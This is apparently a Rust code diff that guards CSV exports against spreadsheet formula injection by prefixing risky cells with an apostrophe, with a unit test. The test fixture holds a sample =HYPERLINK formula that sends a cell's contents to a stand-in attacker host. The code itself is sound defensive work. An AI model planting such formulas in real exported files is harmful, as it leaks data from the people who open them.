@@ -22,9 +22,21 @@ fn failed(error: impl std::error::Error + 'static) -> AppError {
     AppError::internal_error("writing CSV", &error)
 }
 
+/// Text as a spreadsheet shows it, never as a formula: a cell starting with `=`, `+`, `-`, `@`,
+/// tab or carriage return would run as one when the desk opens the CSV in Excel or WPS (a
+/// customer named `=HYPERLINK(...)` becomes a live link), so it is prefixed with `'` (OWASP's
+/// advice). Numbers are written by [`cell_text`] from their own cells and stay numbers.
+fn inert_text(text: &str) -> String {
+    match text.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}"),
+        _ => text.to_owned(),
+    }
+}
+
+/// Every CSV cell goes through here: text made inert, numbers as numbers.
 fn cell_text(cell: &Cell) -> String {
     match cell {
-        Cell::Text(text) => text.clone(),
+        Cell::Text(text) => inert_text(text),
         Cell::Count(n) => n.to_string(),
         Cell::Number(n) => n.map(|n| n.to_string()).unwrap_or_default(),
     }
@@ -102,4 +114,33 @@ pub fn xlsx(sheets: &[Sheet], charts: &[Chart]) -> Result<Vec<u8>, AppError> {
         worksheet.insert_chart(1, column, &drawn).map_err(failed)?;
     }
     workbook.save_to_buffer().map_err(failed)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn text_that_would_run_as_a_formula_is_inert_and_numbers_stay_numbers() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")",
+            "+1+2",
+            "-2+3",
+            "@SUM(A1:A2)",
+            "\tx",
+            "\rx",
+        ] {
+            assert_eq!(
+                cell_text(&Cell::Text(formula.into())),
+                format!("'{formula}")
+            );
+        }
+        assert_eq!(
+            cell_text(&Cell::Text("北京示例医院".into())),
+            "北京示例医院"
+        );
+        assert_eq!(cell_text(&Cell::Text("a=b".into())), "a=b");
+        assert_eq!(cell_text(&Cell::Number(Some(-1.5))), "-1.5");
+        assert_eq!(cell_text(&Cell::Count(3)), "3");
+    }
 }
